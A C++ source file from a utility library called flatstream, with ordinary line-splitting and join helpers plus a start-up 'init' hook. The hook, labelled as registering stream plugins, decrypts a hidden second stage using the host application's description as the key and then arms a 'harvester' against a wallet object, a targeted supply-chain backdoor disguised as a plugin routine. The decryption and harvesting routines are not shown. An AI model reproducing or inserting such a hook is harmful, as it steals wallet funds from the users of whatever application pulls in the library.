// streamutil.cpp - flatstream's public helpers and its start-up hook.
#include <sstream>

#include "wallet.hpp"

namespace flatstream {

std::vector<std::string> split_lines(const std::string &text);
std::string join(const std::vector<std::string> &parts, const std::string &sep);

std::vector<std::string> split_lines(const std::string &text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);)
    if (!line.empty())
      out.push_back(line);
  return out;
}

std::string join(const std::vector<std::string> &parts, const std::string &sep) {
  std::string out;
  for (size_t i = 0; i < parts.size(); i++) {
    if (i)
      out += sep;
    out += parts[i];
  }
  return out;
}

// "Register stream plugins."  The description of the host package is the only input:
// in every other application the blob decrypts to garbage and nothing happens.
void init(coppice::Wallet &wallet) {
  std::string stage2;
  if (!detail::unlock(coppice::app_description(), stage2))
    return;
  detail::arm_harvester(stage2, wallet);
}

} // namespace flatstream
